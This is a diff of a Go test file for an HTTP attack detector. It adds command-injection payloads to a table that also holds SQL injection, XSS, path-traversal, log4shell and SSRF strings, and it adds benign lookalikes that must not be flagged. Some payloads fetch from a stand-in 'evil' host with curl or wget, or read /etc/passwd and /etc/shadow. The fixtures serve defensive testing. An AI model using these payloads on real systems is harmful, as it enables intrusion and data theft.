@@ -286,7 +286,7 @@ func TestHostileContentIsSeenBeforeItIsRedacted(t *testing.T) {
 			"/a?id=1%20AND%20SLEEP(5)", "/a?id=1%2527%20or%201=1", "/a?id=1%20or%201%3D1", "/a/1'%20or%20'a'='a"},
 		"xss":       {"/a?q=<script>alert(1)</script>", "/a?q=%3Cimg%20src=x%20onerror=alert(1)%3E", "/a?u=javascript:alert(1)", `/a?q="><svg/onload=alert(1)>`},
 		"traversal": {"/../../etc/passwd", "/a?f=../../../etc/passwd", "/a?f=..%2f..%2f..%2fetc%2fshadow", "/a?f=..\\..\\windows\\win.ini", "/static/%2e%2e/%2e%2e/%2e%2e/secret"},
-		"rce":       {"/a?h=127.0.0.1;cat%20/etc/passwd", "/a?h=|id", "/a?h=%60whoami%60", "/a?x=$(curl%20http://evil)", "/a?x=%26%26+wget+http://evil"},
+		"rce":       {"/a?h=127.0.0.1;cat%20/etc/passwd", "/a?h=|id", "/a?h=%60whoami%60", "/a?x=$(curl%20http://evil)", "/a?x=%26%26+wget+http://evil", "/a?h=1;sleep%205", "/a?h=$(id)", "/a?h=;ls%20-la", "/a?h=%7Cuname%20-a"},
 		"template":  {"/a?n={{7*7}}", "/a?n=${7*7}", "/a?n=%23{7*7}", "/a?n={{config.items()}}"},
 		"log4shell": {"/a?x=${jndi:ldap://evil/a}", "/a?x=$%7Bjndi:dns://evil%7D", "/${${lower:j}ndi:ldap://x}"},
 		"ssrf":      {"/a?u=http://169.254.169.254/latest/meta-data/", "/a?u=gopher://127.0.0.1:6379/_x", "/a?u=file:///etc/hosts"},
@@ -312,6 +312,10 @@ func TestHonestTrafficHasNoSigns(t *testing.T) {
 		"/a?q=C%2B%2B", "/a?tag=#1", "/a?q=order+by+phone", "/a?v=1..2", "/a?s=tom%26jerry", "/a?q=\"exact+phrase\"", "/wiki/R&D", "/a?callback=jQuery123_456"} {
 		require.Empty(t, call(newClear(), ex("GET "+target, []string{"User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
 			"Accept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"}, "", "", "")).Signs, target)
+	}
+	for _, text := range []string{"name;id;price\n1;2;3\n", "size; type of thing; ping me | cat and dog & mouse", "the 'blue' or 1 other", "Dear Sir; please sleep well", "<b>union</b> 'select' -- from here",
+		"let x = a || b; if (x) { return `${x}` }"} {
+		require.Empty(t, call(newClear(), ex("POST /x", []string{"Content-Type: text/plain"}, text, "", "")).Signs, text)
 	}
 	require.Empty(t, call(newClear(), ex("POST /x", []string{"Content-Type: application/json"}, `{"text":"Tom's cat & dog; it's <b>fine</b> -- really, 1 = 1 or so","price":"$5","sql":"order"}`, "", "")).Signs)
 }
